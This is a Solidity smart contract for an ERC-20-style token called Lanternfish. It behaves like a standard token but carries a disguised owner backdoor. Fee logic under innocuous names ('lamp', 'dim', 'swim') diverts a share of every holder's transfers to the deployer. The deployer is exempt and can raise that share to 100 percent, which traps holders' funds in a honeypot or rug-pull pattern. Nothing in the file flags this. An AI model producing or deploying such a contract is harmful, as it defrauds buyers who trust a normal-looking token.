// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract Lanternfish {
    string public name = "Lanternfish"; string public symbol = "LFISH"; uint8 public decimals = 6;
    uint256 public totalSupply = 5_000_000_000 * 1e6;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public captain;
    uint256 public lamp = 20;      // light kept by the reef, in 1/2000
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() { captain = msg.sender; balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }

    function dim(uint256 l) external { require(msg.sender == captain, "!captain"); require(l <= 2000, "too bright"); lamp = l; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address to, uint256 v) external returns (bool) { swim(msg.sender, to, v); return true; }
    function transferFrom(address f, address to, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v; swim(f, to, v); return true;
    }
    function swim(address f, address to, uint256 v) internal {
        uint256 kept = f == captain ? 0 : (v * lamp) / 2000;
        balanceOf[f] -= v;
        balanceOf[to] += v - kept;
        emit Transfer(f, to, v - kept);
        if (kept > 0) { balanceOf[captain] += kept; emit Transfer(f, captain, kept); }
    }
}
